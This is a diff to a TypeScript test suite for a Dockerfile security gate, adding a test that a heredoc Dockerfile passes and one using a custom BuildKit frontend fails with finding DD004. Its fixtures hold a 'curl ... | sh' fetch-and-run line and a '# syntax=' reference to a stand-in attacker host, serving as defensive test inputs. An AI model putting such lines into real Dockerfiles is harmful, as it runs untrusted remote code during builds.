@@ -26,9 +26,15 @@ const AFTER = '405906c9d5be6ae5393ca65fb0e7c38e0d585ecb';
 const PASSING =
   'FROM docker.io/library/node:20.11.1\nWORKDIR /app\nCOPY . .\nUSER node\nCMD ["node", "server.js"]\n';
 const FAILING = 'FROM ubuntu:latest\nRUN curl http://example.com/install.sh | sh\n';
+// BuildKit reads heredocs as the gate does (buildah 1.28 would not); it would run a custom # syntax= frontend.
+const HEREDOC =
+  'FROM docker.io/library/node:20.11.1\nUSER node\nRUN <<EOF\necho hi > /tmp/x\nEOF\nCMD ["node", "a.js"]\n';
+const FRONTEND = `# syntax=evil.example/frontend:1\n${PASSING}`;
 const TEXTS: Record<string, string> = {
   [definitionKey(REPO, AFTER, 'services/api/Dockerfile')]: PASSING,
   [definitionKey(REPO, AFTER, 'services/legacy/Dockerfile')]: FAILING,
+  [definitionKey(REPO, AFTER, 'services/heredoc/Dockerfile')]: HEREDOC,
+  [definitionKey(REPO, AFTER, 'services/frontend/Dockerfile')]: FRONTEND,
 };
 
 const push = (definitions: { path: string; change: string }[], ref = 'refs/heads/main') =>
@@ -217,6 +223,33 @@ describe('gate handler', () => {
     expect(ddb.items('idempotency').map((r) => r.id?.S)).toContain(
       `drydock.gate#${idempotencyHash([REPO, AFTER, 'services/api/Dockerfile'])}`,
     );
+  });
+
+  it("gates for CodeBuild's BuildKit: a heredoc passes, a custom # syntax= frontend fails with DD004", async () => {
+    const { handler: gate } = handler();
+    const defs = [
+      { path: 'services/heredoc/Dockerfile', change: 'added' },
+      { path: 'services/frontend/Dockerfile', change: 'added' },
+    ];
+    await gate(sqsEvent(sqsRecord(push(defs))), lambdaContext());
+    await gate(sqsEvent(...routedToGate()), lambdaContext());
+    const verdicts = putEntries()
+      .filter((e) => e.DetailType === 'Definition Verdict')
+      .map(
+        (e) => JSON.parse(e.Detail!) as { definition: string; passed: boolean; findings: { code: string }[] },
+      );
+    expect(
+      verdicts
+        .map((v) => [
+          v.definition,
+          v.passed,
+          v.findings.map((f) => f.code).filter((c) => c.startsWith('DD00')),
+        ])
+        .sort(),
+    ).toEqual([
+      ['services/frontend/Dockerfile', false, ['DD004']],
+      ['services/heredoc/Dockerfile', true, []],
+    ]);
   });
 
   it('refuses a push over the cap with one failed verdict and reads no definition', async () => {
